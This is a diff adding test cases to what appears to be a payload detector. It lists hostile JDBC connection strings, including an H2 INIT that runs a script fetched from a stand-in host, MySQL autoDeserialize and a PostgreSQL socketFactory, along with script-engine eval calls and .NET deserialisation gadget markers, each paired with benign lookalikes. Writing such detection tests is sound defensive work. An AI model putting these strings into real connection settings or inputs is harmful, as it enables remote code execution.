@@ -153,3 +153,41 @@ describe('Java', () => {
     expect(inHeader('cookie', 'session=rO0ABXNyAB')).toBe('java');
   });
 });
+
+describe('Drivers, engines and serialised objects', () => {
+  table(
+    'java',
+    [
+      "jdbc:h2:mem:test;INIT=CREATE ALIAS EXEC AS 'x'",
+      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://h.example/x.sql'",
+      'jdbc:mysql://h.example:3306/x?autoDeserialize=true',
+      'jdbc:postgresql://h/?socketFactory=a.B&socketFactoryArg=http://h.example/x.xml',
+      '(new javax.script.ScriptEngineManager()).getEngineByName("js").eval("x")',
+      'new groovy.util.GroovyScriptEngine()',
+      'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0s',
+      '/wEykgEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxs',
+      '{"__type":"System.Diagnostics.Process, System"}',
+      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
+      '<ObjectDataProvider MethodName="Start"></ObjectDataProvider>',
+    ],
+    [
+      'jdbc:postgresql://db.example.com:5432/app?sslmode=require',
+      'jdbc:h2:mem:test;DB_CLOSE_DELAY=-1',
+      'jdbc:h2:mem:a;INIT=CREATE SCHEMA IF NOT EXISTS a',
+      'jdbc:mysql://db.example.com/x?useSSL=true',
+      '{"$type":"System.Collections.Generic.List`1[[System.String]]"}',
+      '{"__type":"Order:#Shop.Models"}',
+      'AAEAAAABAAAAaWQ=',
+      '/we are here',
+      'new javax.money module',
+      'ObjectDataProvider in WPF',
+    ],
+    'data',
+  );
+
+  it('finds a type of .NET that runs programs where the object to be made is named', () => {
+    expect(inField({ $type: 'System.Diagnostics.Process, System' })).toBe('java');
+    expect(inField({ $type: 'System.Collections.Hashtable' })).toBeUndefined();
+    expect(inField({ logger: 'System.Diagnostics.Process' })).toBeUndefined();
+  });
+});
